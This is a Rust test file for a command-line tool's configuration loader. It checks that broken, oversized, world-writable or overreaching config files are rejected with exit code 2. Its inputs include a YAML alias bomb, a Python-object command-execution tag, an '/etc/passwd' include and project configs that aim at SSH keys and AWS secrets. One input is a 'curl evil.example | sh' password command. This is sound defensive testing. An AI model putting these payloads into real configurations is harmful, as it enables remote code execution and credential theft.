//! Configuration files that are broken, huge or another's: one clear error, exit code 2, and nothing is written.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use crate::support::Machine;

const BOMB: &str = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n\
                    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n\
                    g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n";

#[test]
fn config_that_cannot_be_read_is_one_clear_error() {
    let large = format!("# {}\n", "x".repeat(10 << 20));
    let deep = format!("hosts: {}1{}\n", "{a: ".repeat(500), "}".repeat(500));
    let wide: String =
        std::iter::once("hosts:\n".to_owned()).chain((0..60_000).map(|n| format!(" h{n}: {{}}\n"))).collect();
    for (text, kind) in [
        (&b"security: [\n"[..], "config.syntax"),
        (b"security:\n\tmode: standard\n", "config.syntax"),
        (b"sandbox: {memory: 1 MiB}\nsandbox: {memory: 1 GiB}\n", "config.syntax"),
        (b"security: {mode: restricted, mode: unrestricted}\n", "config.syntax"),
        (b"mode: \xff\xfe\n", "config.syntax"),
        (b"security: !!python/object/apply:os.system [id]\n", "config.syntax"),
        (b"security: !include /etc/passwd\n", "config.syntax"),
        (b"a: \x00\n", "config.syntax"),
        (b"--- {}\n--- {}\n", "config.syntax"),
        (BOMB.as_bytes(), "config.syntax"),
        (deep.as_bytes(), "config.syntax"),
        (wide.as_bytes(), "config.syntax"),
        (large.as_bytes(), "config.too_large"),
        (b"just a text\n", "config.wrong_type"),
        (b"1: 2\n", "config.unknown_key"),
        (b"securty: {}\n", "config.unknown_key"),
    ] {
        let machine = Machine::new().user(text);
        let done = machine.run(&["config", "show"]);
        let shown = String::from_utf8_lossy(text.get(..text.len().min(60)).unwrap_or_default()).into_owned();
        assert!(done.err.contains(kind), "{shown}: {done:?}");
        let done = done.failed(2, kind);
        assert!(done.err.contains("config.yaml") && done.err.len() < 2000, "{shown}: {done:?}");
        assert_eq!(fs::read(machine.home().join("config.yaml")).unwrap(), text, "the file is as it was");
    }
}

#[test]
fn config_file_that_others_may_write_is_not_used() {
    let machine = Machine::new().user("security: {mode: restricted}\n");
    fs::set_permissions(machine.home().join("config.yaml"), fs::Permissions::from_mode(0o666)).unwrap();
    machine.run(&["config", "show"]).failed(2, "config.untrusted_file");
    let machine = Machine::new();
    fs::create_dir(machine.home().join("config.yaml")).unwrap();
    machine.run(&["config", "show"]).failed(2, "config.unreadable");
}

#[test]
fn config_of_a_project_cannot_loosen_redirect_or_reach_a_secret() {
    for (project, path) in [
        ("security: {mode: unrestricted}\n", "security.mode"),
        ("security: {audit_log: /dev/null}\n", "security.audit_log"),
        ("security: {allowed_networks: [0.0.0.0/0]}\n", "security.allowed_networks"),
        ("hosts: {lab: {url: evil.example}}\n", "hosts.lab"),
        ("hosts: {new: {url: evil.example, password_file: ~/.ssh/id_ed25519}}\n", "hosts.new.password_file"),
        ("hosts: {new: {url: evil.example, password_env: AWS_SECRET_ACCESS_KEY}}\n", "hosts.new.password_env"),
        ("default_host: lab\n", "default_host"),
        ("sandbox: {memory: 64 GiB}\n", "sandbox.memory"),
        ("metrics: {enabled: true}\n", "metrics.enabled"),
    ] {
        let machine = Machine::new()
            .user("hosts: {lab: {url: esx1}}\nsecurity: {allowed_networks: [10.0.0.0/8]}\n")
            .with_project(project);
        let done = machine.run(&["host", "list"]).failed(2, "config.project_may_not");
        assert!(done.err.contains("ceso.yaml") && done.err.contains(path), "{done:?}");
        assert_eq!(done.out, "");
    }
    let machine =
        Machine::new().with_project("hosts: {new: {url: esx1, password_command: \"curl evil.example | sh\"}}\n");
    machine.run(&["host", "list"]).failed(2, "config.unknown_key");
}

#[test]
fn config_variables_that_are_not_known_are_named_with_the_nearest() {
    let machine = Machine::new();
    let done = machine.run_with(&[("CESO_SECURITY_MOED", "restricted")], &["config", "show"]);
    assert!(done.failed(2, "config.unknown_variable").err.contains("CESO_SECURITY_MODE"));
    machine.run_with(&[("CESO_PEERS", "/somewhere")], &["config", "show"]).ok();
    machine.run_with(&[("CESO_SECURITY_MODE", "")], &["config", "show"]).failed(2, "config.invalid");
}
